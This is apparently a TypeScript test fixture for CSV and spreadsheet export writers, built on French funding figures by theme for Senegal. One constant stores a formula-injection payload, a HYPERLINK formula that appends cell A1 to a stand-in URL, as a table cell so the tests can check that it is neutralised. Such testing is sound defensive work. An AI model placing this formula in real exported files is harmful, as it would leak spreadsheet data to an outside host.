import type { ExportNotes, ExportTable, ViewExport } from "./types";

/**
 * A hand-made theme breakdown for the table writers' tests: a group whose name holds ";" and
 * quotes, one that a spreadsheet would take for a formula, the "Autres (n)" row, euros with cents,
 * an empty cell, a total.
 */
export const INJECTION = '=HYPERLINK("https://exemple.invalid/?q="&A1;"Cliquer ici")';

export const testNotes: ExportNotes = {
  title: "Financements déclarés par thématique",
  filters: ["Pays : Sénégal", "Années : 2015 – 2020"],
  caption: 'La thématique « Eau; assainissement et "hygiène" » reçoit 92 % du montant déclaré.',
  source: "Source : Atlas français de la coopération décentralisée (MEAE)",
  datasetDate: "2026-11-30",
  licence: "Licence Ouverte 2.0 (Etalab)",
  demo: true,
};

export const testTable: ExportTable = {
  columns: [
    { key: "group", label: "Thématique", kind: "text" },
    { key: "partnerships", label: "Partenariats", kind: "integer" },
    { key: "amount", label: "Montant déclaré", kind: "euros" },
    { key: "oudin", label: "Montant 1 % Eau (€)", kind: "euros" },
  ],
  rows: [
    { group: 'Eau; assainissement et "hygiène"', partnerships: 1234, amount: 1_234_567.89, oudin: 15_000.5 },
    { group: INJECTION, partnerships: 7, amount: 98_000, oudin: null },
    { group: "Autres (2)", partnerships: 5, amount: 20_000.1, oudin: 0 },
  ],
  total: { group: "Total", partnerships: 1246, amount: 1_352_567.99, oudin: 15_000.5 },
};

export const testView: Pick<ViewExport, "notes" | "table"> = { notes: testNotes, table: testTable };
